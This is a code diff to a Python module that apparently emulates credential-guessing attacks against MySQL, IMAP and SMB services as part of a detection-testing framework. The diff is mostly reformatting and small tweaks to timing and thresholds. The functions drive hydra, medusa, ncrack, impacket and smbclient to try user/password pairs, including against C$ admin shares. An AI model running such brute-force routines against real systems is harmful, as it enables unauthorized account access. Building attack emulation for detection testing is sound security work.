@@ -84,7 +84,8 @@ def _mysql_by_hand(me):
     return guess
 
 
-@threat("guess_mysql", family="guessing", needs=("mysql",), tools=("hydra|medusa|ncrack|patator", "python:pymysql"), origin="either")
+@threat("guess_mysql", family="guessing", needs=("mysql",), tools=("hydra|medusa|ncrack|patator", "python:pymysql"),
+        origin="either")
 def guess_mysql(me):
     service = me.choose("mysql")
     guess = tool(me, _mysql_by_hand(me), hydra="mysql", medusa="mysql", ncrack="mysql", patator="mysql_login")
@@ -118,7 +119,8 @@ def _imap_by_hand(me):
 def guess_imap(me):
     service = me.choose("imap")
     secure = service.facts.get("tls")
-    guess = tool(me, _imap_by_hand(me), hydra="imaps" if secure else "imap", medusa=("imap", *(["-s"] if secure else [])),
+    guess = tool(me, _imap_by_hand(me), me.rng.uniform(5, 12), hydra="imaps" if secure else "imap",
+                 medusa=("imap", *(["-s"] if secure else [])),
                  **({} if secure else {"ncrack": "imap"}))
     guess_in_rounds(me, guess, service, me.rng.randrange(80, 300), service.facts.get("user", ""))
 
@@ -133,7 +135,8 @@ def _smb_by_hand(me):
         while pairs and not me.over():
             with me.talk(service), contextlib.suppress(OSError, SessionError, NetBIOSError, NetBIOSTimeout):
                 me.use("impacket")
-                talk = SMBConnection(me.address(service, False), me.address(service, False), sess_port=service.port, timeout=8)
+                talk = SMBConnection(me.address(service, False), me.address(service, False), sess_port=service.port,
+                                     timeout=8)
                 try:
                     for user, password in pairs[:tries]:
                         with contextlib.suppress(SessionError):
@@ -151,9 +154,11 @@ def _smbclient(me):
 
     def guess(service, users, passwords):
         for user, password in _pairs(me, users, passwords, 1.0):
+            share = me.rng.choice(("IPC$", "C$", service.facts.get("share") or "data"))
             with me.talk(service):
-                me.run(["smbclient", "-s", "/dev/null", "-p", service.port, *lowest, "-U", f"{user}%{password}", "-c", "quit",
-                        f"//{me.address(service, False)}/{me.rng.choice(('IPC$', 'C$', service.facts.get('share') or 'data'))}"],
+                me.run(["smbclient", "-s", "/dev/null", "-p", service.port, *lowest, "-U", f"{user}%{password}", "-c",
+                        "quit",
+                        f"//{me.address(service, False)}/{share}"],
                        timeout=8)
     return guess
 
@@ -197,9 +202,9 @@ def _answered(least):
 
 EVIDENCE = {
     "guess_ssh": ("with a finished key exchange", _answered(1000), 12),
-    "guess_ftp": ("with a login that was answered", _answered(200), 15),
+    "guess_ftp": ("with a login that was answered", _answered(200), 10),
     "guess_mysql": ("with a login that was answered", _answered(200), 15),
-    "guess_imap": ("with a login that was answered", _answered(250), 12),
+    "guess_imap": ("with a login that was answered", _answered(250), 10),
     "guess_smb": ("with a session setup", _answered(500), 12),
     "guess_vnc": ("with a version exchange", _answered(200), 12),
 }
